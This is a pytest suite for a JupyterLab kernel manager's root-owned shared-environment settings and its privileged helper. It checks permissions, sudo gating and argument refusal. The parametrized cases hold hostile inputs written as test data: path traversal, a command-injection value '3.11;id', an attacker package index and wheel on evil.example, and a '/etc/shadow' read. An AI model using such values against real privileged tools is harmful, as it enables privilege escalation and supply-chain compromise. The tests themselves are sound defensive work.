"""Shared environments without a hub: the root-owned settings and the helper's
own checks (tests/hub/test_hub_shared.py runs the whole thing with sudo).

The settings count only when root owns them and nobody else may write them; the
helper refuses every hostile argument before it makes anything; a server offers
sharing to nobody but its owner, a hub admin, and never tries sudo otherwise.
"""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from types import SimpleNamespace

import pytest

from jupyterlab_kernel_manager import shared, sharedhelper, sharedsettings

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the settings must belong to root")
NOBODY = 65534


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """A root-owned directory nobody else may write, as the settings need."""
    for parent in [tmp_path, *tmp_path.parents]:
        if parent == Path("/"):
            break
        info = parent.stat()
        if info.st_mode & 0o022 and not info.st_mode & 0o1000:
            pytest.skip(f"{parent} is writable by others")
    tmp_path.chmod(0o755)
    return tmp_path


def write_settings(place: Path, **values) -> Path:
    data = {
        "enabled": True,
        "environments_dir": str(place / "envs"),
        "kernels_dir": str(place / "kernels"),
        **values,
    }
    path = place / "settings.json"
    path.write_text(json.dumps(data))
    path.chmod(0o644)
    return path


def test_root_owned_settings_enable_the_feature(place):
    settings = sharedsettings.load(str(write_settings(place, backends=["uv"])))
    assert settings.enabled and settings.problem is None
    assert settings.environments_dir == str(place / "envs")
    assert settings.backends == ("uv",)


def test_no_file_means_off():
    settings = sharedsettings.load("/nonexistent/kernel_manager_shared.json")
    assert not settings.enabled and "not enabled" in settings.problem


@pytest.mark.parametrize(
    "spoil",
    [
        lambda path: path.chmod(0o666),
        lambda path: path.chmod(0o664),
        lambda path: os.chown(path, NOBODY, -1),
        lambda path: path.parent.chmod(0o777),
        lambda path: os.chown(path.parent, NOBODY, -1),
    ],
    ids=["world-writable", "group-writable", "not-root's", "parent-writable", "parent-not-root's"],
)
def test_settings_others_could_change_are_ignored(place, spoil):
    path = write_settings(place)
    spoil(path)
    settings = sharedsettings.load(str(path))
    assert not settings.enabled
    assert "ignored" in settings.problem


def test_a_symlinked_settings_file_is_ignored(place):
    real = write_settings(place)
    link = place / "link.json"
    link.symlink_to(real)
    assert not sharedsettings.load(str(link)).enabled


@pytest.mark.parametrize(
    "values",
    [
        {"environments_dir": "relative/envs"},
        {"environments_dir": "/opt/../etc"},
        {"kernels_dir": "/srv/k\0x"},
        {"backends": ["uv", "curl"]},
        {"backends": []},
        {"enabled": "yes"},
        {"max_packages": 10**9},
        {"timeout": True},
        {"extra": 1},
    ],
)
def test_malformed_settings_are_off_with_the_reason(place, values):
    settings = sharedsettings.load(str(write_settings(place, **values)))
    assert not settings.enabled
    assert str(place / "settings.json") in settings.problem


def test_environments_must_not_go_where_others_can_write(place):
    open_dir = place / "open"
    open_dir.mkdir(mode=0o777)
    open_dir.chmod(0o777)
    settings = sharedsettings.load(
        str(write_settings(place, environments_dir=str(open_dir / "envs")))
    )
    assert not settings.enabled and "writable by others" in settings.problem


@pytest.fixture
def helper_settings(place, monkeypatch):
    settings = sharedsettings.load(str(write_settings(place, backends=["uv", "venv"])))
    assert settings.enabled
    monkeypatch.setattr(sharedsettings, "load", lambda *a, **k: settings)
    return settings


@pytest.mark.parametrize(
    "argv",
    [
        ["create", "../escape", "--backend", "uv", "--python", "3.11", "--display-name", "x"],
        ["create", ".hidden", "--backend", "uv", "--python", "3.11", "--display-name", "x"],
        ["create", "ok", "--backend", "conda", "--python", "3.11", "--display-name", "x"],
        ["create", "ok", "--backend", "uv", "--python", "3.11;id", "--display-name", "x"],
        ["create", "ok", "--backend", "uv", "--python", "3.11", "--display-name", "a\nb"],
        ["create", "ok", "--backend", "uv", "--python", "3.11", "--display-name", " "],
        [
            *["create", "ok", "--backend", "uv", "--python", "3.11", "--display-name", "x"],
            *["--", "--index-url=https://evil.example/simple", "six"],
        ],
        [
            *["create", "ok", "--backend", "uv", "--python", "3.11", "--display-name", "x"],
            *["--", "-r", "/etc/shadow"],
        ],
        [
            *["create", "ok", "--backend", "uv", "--python", "3.11", "--display-name", "x"],
            *["--", "./local-dir"],
        ],
        [
            *["create", "ok", "--backend", "uv", "--python", "3.11", "--display-name", "x"],
            *["--", "evil @ https://evil.example/evil.whl"],
        ],
        ["install", "missing", "--", "six"],
        ["install", "ok"],
        ["remove", "missing"],
        ["remove", "/etc"],
    ],
)
def test_the_helper_refuses_before_it_makes_anything(helper_settings, argv, capsys):
    assert sharedhelper.main(argv) == sharedhelper.REFUSED, capsys.readouterr()
    assert "Refused:" in capsys.readouterr().err
    for place in (helper_settings.environments_dir, helper_settings.kernels_dir):
        assert not os.path.exists(place) or os.listdir(place) == [], os.listdir(place)


def test_unknown_verbs_and_options_are_refused(helper_settings):
    for argv in (["shell"], ["create", "ok", "--backend", "uv"], ["remove", "ok", "--force"]):
        with pytest.raises(SystemExit) as exit_:
            sharedhelper.main(argv)
        assert exit_.value.code == 2


def test_the_helper_reads_nothing_but_its_settings_file(helper_settings, capsys):
    assert sharedhelper.main(["check"]) == 0
    assert json.loads(capsys.readouterr().out)["environments_dir"] == (
        helper_settings.environments_dir
    )


def test_the_helper_says_when_sharing_is_off(monkeypatch, capsys):
    monkeypatch.setattr(sharedsettings, "load", lambda *a, **k: sharedsettings.off("off here"))
    assert sharedhelper.main(["check"]) == sharedhelper.REFUSED
    assert "off here" in capsys.readouterr().err


class Hubbed(SimpleNamespace):
    """What jupyterhub.singleuser makes current_user: its model from the hub."""


@pytest.mark.parametrize(
    ("username", "admin", "why"),
    [
        ("alice", False, "Only hub admins"),
        ("visitor", True, "whose server this is"),
    ],
)
def test_the_server_never_tries_sudo_for_others(helper_settings, monkeypatch, username, admin, why):
    monkeypatch.setenv("JUPYTERHUB_USER", "alice")

    async def no_sudo(cwd):
        raise AssertionError("sudo must not be tried")

    monkeypatch.setattr(shared, "_check_sudo", no_sudo)
    user = Hubbed(username=username, hub_user={"name": username, "admin": admin})
    manager = shared.SharedEnvironments(environments=None)  # type: ignore[arg-type]
    ok, reason = asyncio.run(manager.may_manage(user))
    assert not ok and why in reason


def test_the_owner_admin_is_asked_of_sudo_once(helper_settings, monkeypatch):
    monkeypatch.setenv("JUPYTERHUB_USER", "admin")
    calls = []

    async def sudo(cwd):
        calls.append(cwd)
        return False, "no sudo here"

    monkeypatch.setattr(shared, "_check_sudo", sudo)
    user = Hubbed(username="admin", hub_user={"name": "admin", "admin": True})
    manager = shared.SharedEnvironments(environments=None)  # type: ignore[arg-type]

    async def twice():
        return [await manager.may_manage(user), await manager.may_manage(user)]

    assert asyncio.run(twice()) == [(False, "no sudo here")] * 2
    assert len(calls) == 1


def test_only_a_root_owned_spec_is_labelled_shared(place):
    from jupyterlab_kernel_manager import kernelspecs

    spec_dir = place / "kernels" / "class"
    spec_dir.mkdir(parents=True)
    spec_dir.parent.chmod(0o755)
    (spec_dir / "kernel.json").write_text(
        json.dumps(
            {
                "argv": ["/opt/envs/class/bin/python", "-f", "{connection_file}"],
                "display_name": "Class",
                "language": "python",
                "metadata": {
                    "kernel_manager": {
                        "environment": {"path": "/opt/envs/class", "backend": "uv", "shared": True}
                    }
                },
            }
        )
    )
    (spec_dir / "kernel.json").chmod(0o644)
    source = lambda: kernelspecs.list_kernelspecs({"class": str(spec_dir)})["kernelspecs"][  # noqa: E731
        "class"
    ]["source"]
    assert source() == "shared"
    # A directory a user may write: anybody could have written that it is shared.
    spec_dir.chmod(0o777)
    assert source() == "environment"
    spec_dir.chmod(0o755)
    os.chown(spec_dir / "kernel.json", NOBODY, -1)
    assert source() == "environment"


@pytest.fixture
def sharing_server(helper_settings, monkeypatch):
    """A real server whose owner may share (no hub: sudo alone decides, said yes)."""
    monkeypatch.delenv("JUPYTERHUB_USER", raising=False)

    async def sudo_works(cwd):
        return True, None

    monkeypatch.setattr(shared, "_check_sudo", sudo_works)
    return helper_settings


async def test_a_shared_name_never_hides_another_kernelspec(sharing_server, km, user_kernels):
    (user_kernels / "mine").mkdir(parents=True)
    (user_kernels / "mine" / "kernel.json").write_text(
        json.dumps({"argv": ["python", "-f", "{connection_file}"], "display_name": "Mine"})
    )
    status, body, _ = await km("shared-environments", method="POST", body={"name": "mine"})
    assert (status, body["reason"]) == (409, "exists"), body
    assert not os.path.exists(sharing_server.environments_dir)


async def test_shared_creations_take_no_conda_specs_and_at_most_the_allowed_packages(
    sharing_server, km
):
    yml = "dependencies:\n  - python=3.11\n  - numpy=1.26\n"
    status, body, _ = await km(
        "shared-environments",
        method="POST",
        body={
            "name": "fromyml",
            "backend": "conda",
            "requirements_file": {"format": "environment.yml", "content": yml},
        },
    )
    # Refused as a conda file (or, without conda here, for its backend).
    assert (status, body["reason"]) in ((400, "invalid-file"), (400, "invalid-backend")), body
    many = [f"pkg{i}" for i in range(sharing_server.max_packages + 1)]
    status, body, _ = await km(
        "shared-environments",
        method="POST",
        body={
            "name": "many",
            "requirements_file": {"format": "requirements.txt", "content": "\n".join(many)},
        },
    )
    assert (status, body["reason"]) == (400, "invalid-package"), body
    assert not os.path.exists(sharing_server.environments_dir)
